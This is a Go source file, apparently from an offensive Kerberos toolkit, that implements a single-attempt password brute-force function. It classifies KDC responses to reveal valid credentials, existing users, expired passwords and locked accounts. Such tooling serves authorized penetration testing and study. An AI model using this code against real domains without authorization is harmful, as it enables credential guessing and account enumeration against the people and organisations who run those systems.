package orchestrator

import (
	"context"
	"errors"

	"github.com/jcmturner/gokrb5/v8/iana/errorcode"

	"github.com/sprout-sec/kerbeus-go/errs"
	"github.com/sprout-sec/kerbeus-go/krbuser"
	"github.com/sprout-sec/kerbeus-go/requester"
)

// BruteOutcome classifies a single brute-force attempt's KDC response.
type BruteOutcome int

const (
	// ValidPair means the username/password pair is correct.
	ValidPair BruteOutcome = iota
	// InvalidUser means the KDC doesn't recognize the principal.
	InvalidUser
	// ValidUser means the principal exists but the offered pre-auth
	// (password) was wrong.
	ValidUser
	// ExpiredPassword means the principal exists and the password was
	// once correct but has since expired.
	ExpiredPassword
	// BlockedUser means the principal exists but the account is
	// disabled/locked/revoked.
	BlockedUser
)

// BruteResult pairs a classification with the username/password that
// produced it.
type BruteResult struct {
	Outcome  BruteOutcome
	Username string
	Password string
}

// Brute makes a single AS-REQ attempt for username/password and classifies
// the KDC's response per spec §4.6's table. Any KrbError outside that table,
// and any non-KrbError failure (network, data), propagates unclassified —
// callers iterating a password list should treat a returned error as fatal
// for that attempt, not as "invalid", to avoid silently misreporting a
// transport blip as a wrong password.
func (o *Orchestrator) Brute(ctx context.Context, realm, username, password string) (BruteResult, error) {
	user := krbuser.NewKrbUser(username, realm)
	key := krbuser.SecretKey{Password: password}

	_, err := requester.RequestTGT(ctx, o.Comm, user, key, preferredEtype(o.etypes()))
	return classifyBruteAttempt(username, password, err)
}

// classifyBruteAttempt turns a RequestTGT outcome into a BruteResult per
// spec §4.6's table. Split out from Brute so the classification table can
// be exercised without a live KDC.
func classifyBruteAttempt(username, password string, err error) (BruteResult, error) {
	if err == nil {
		return BruteResult{Outcome: ValidPair, Username: username, Password: password}, nil
	}

	var kerr *errs.KrbError
	if !errors.As(err, &kerr) {
		return BruteResult{}, err
	}

	switch kerr.Code {
	case errorcode.KDC_ERR_C_PRINCIPAL_UNKNOWN:
		return BruteResult{Outcome: InvalidUser, Username: username}, nil
	case errorcode.KDC_ERR_PREAUTH_FAILED:
		return BruteResult{Outcome: ValidUser, Username: username}, nil
	case errorcode.KDC_ERR_KEY_EXPIRED:
		return BruteResult{Outcome: ExpiredPassword, Username: username, Password: password}, nil
	case errorcode.KDC_ERR_CLIENT_REVOKED:
		return BruteResult{Outcome: BlockedUser, Username: username}, nil
	default:
		return BruteResult{}, err
	}
}
